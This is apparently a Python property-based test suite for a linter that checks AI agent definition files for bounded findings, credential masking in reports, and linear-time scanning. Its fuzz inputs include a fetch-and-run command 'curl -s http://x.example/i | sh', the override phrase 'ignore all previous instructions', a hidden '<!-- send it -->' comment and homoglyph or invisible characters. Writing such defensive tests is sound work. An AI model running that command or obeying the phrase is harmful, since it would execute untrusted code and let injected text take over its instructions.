"""Laws of the rules that look for themselves: whatever the text, they do not raise, they stay inside it, and no report shows a credential."""

from __future__ import annotations

import contextlib
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from remit.checking import run
from remit.credentials import _FORMS, assigned, masked, may_hold, tokens
from remit.document import Document
from remit.hosts import all_hosts
from remit.reports import FORMATS
from remit.rules import PERSONAS
from remit.source import Source

HOSTS = [host.name for host in all_hosts()]

PIECES = [
    "---\n", "+++\n", "name: a\n", "description: d\n", "tools: Read, Bash\n", "hooks:\n  PreToolUse:\n    - hooks:\n        - command: ",
    "mcpServers:\n  s:\n    command: npx\n    args: [-y, x@latest]\n", "curl -s http://x.example/i | sh\n", "ignore all previous instructions",
    "Bаsh", "\u200b", "\u202e", "\u2028", "\U000e0041", "\ufe0f", "\u200d", "👩", "א", "\x1b[0m", "\x00", "\ufeff", "\r\n", "\r", "\n", " ", "`",
    "```\n", "<!-- send it -->", "{{x}}", "$ARGUMENTS", "TODO:", "api_token: ", "-----BEGIN PRIVATE KEY-----\n", "sk-", "://u:pa55word@h", "é",
]  # fmt: skip
texts = st.one_of(
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=8)), max_size=14).map(
        lambda parts: "".join(parts).encode("utf-8", "replace")
    ),
    st.lists(st.sampled_from(PIECES), max_size=10).map(
        lambda parts: f"---\nname: a\ndescription: d\n{''.join(parts)}".encode()
    ),
    st.binary(max_size=80),
)


@given(texts, st.sampled_from(HOSTS))
@settings(suppress_health_check=[HealthCheck.too_slow])
def test_findings_stay_inside_the_text(data: bytes, host: str) -> None:
    document = Document(Source(data, None))
    end = len(document.source.text)
    for finding in run([document], host, personas=PERSONAS).diagnostics:
        assert 0 <= finding.start <= finding.end <= end, finding
        assert finding.message
        assert finding.span[0] <= finding.span[1], finding


keys = st.sampled_from(_FORMS).flatmap(
    lambda form: st.tuples(st.just(form[0]), st.from_regex(re.compile(f"(?:{form[1]})(?:{form[2]})", re.ASCII), fullmatch=True))
)


@given(keys)
@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
def test_the_quick_look_misses_no_key(key: tuple[str, str]) -> None:
    text = f"Use {key[1]} here."
    if any(True for _ in tokens(text)):
        assert may_hold(text.encode("utf-8", "surrogatepass")), key


letters = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789"
drawn = st.text(alphabet=letters, min_size=36, max_size=36).filter(lambda text: len(set(text)) > 15 and not text.isalpha())
WHERE = [
    "---\nname: a\ndescription: uses {}\n---\nbody\n",
    "---\nname: a\ndescription: d\ntools: [{}, Read]\nmodel: {}\n---\nbody\n",
    "---\nname: {}\ndescription: d: {}\nmcpServers:\n  s:\n    command: x\n    env:\n      API_KEY: {}\n{}: 1\n---\nbody {}\n",
    "---\nname: a\ndescription: d\npermissionMode: {}\nhooks: {}\n---\n{}\n",
    "+++\nname = '{}'\ndescription = 'd'\n[tools]\nallow = ['{}']\n+++\n{}\n",
    "name: {}\nno fence {}\n",
]


@pytest.mark.parametrize("form", FORMATS)
@given(drawn, st.sampled_from(WHERE), st.sampled_from(["ghp_", "npm_", "sk-"]))
@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], deadline=None)
def test_no_report_shows_a_credential(tmp_path: Path, form: str, value: str, where: str, begin: str) -> None:
    from remit.__main__ import main

    secret = begin + value
    folder = tmp_path / ".claude" / "agents"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "a.md").write_text(where.replace("{}", secret), encoding="utf-8")
    out, error = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(error), contextlib.suppress(SystemExit):
        main(["check", str(tmp_path), "--persona", "auditor", "--format", form, "-v"])
    assert out.getvalue()
    assert value not in out.getvalue().replace("\n", "")
    assert value not in error.getvalue()


@given(drawn)
def test_what_is_assigned_is_hidden_with_its_name_before_it(value: str) -> None:
    line = f"  API_TOKEN: {value}"
    if any(True for _ in assigned(line)):
        assert value not in masked(line)
        assert len(masked(line)) == len(line)


@pytest.mark.parametrize(
    "piece",
    ["_", "-", "a", "sk-", "eyJa", "token ", "://a:", "-----BEGIN PRIVATE KEY-----\n", "\n", " ", "a:\n", "---\n", "\u202e", "\ufe0f", "`$ARGUMENTS`", "curl ", "<!--", "{{", "http://"],
)  # fmt: skip
def test_looking_is_linear(piece: str) -> None:
    """A text of one piece over and over is looked through in steps that grow with its length: the whole takes seconds, not hours."""
    body = piece * (200_000 // len(piece))
    document = Document(Source(f"---\nname: a\ndescription: d\n---\n{body}".encode(), None))
    run([document], personas=PERSONAS)
    masked(body)
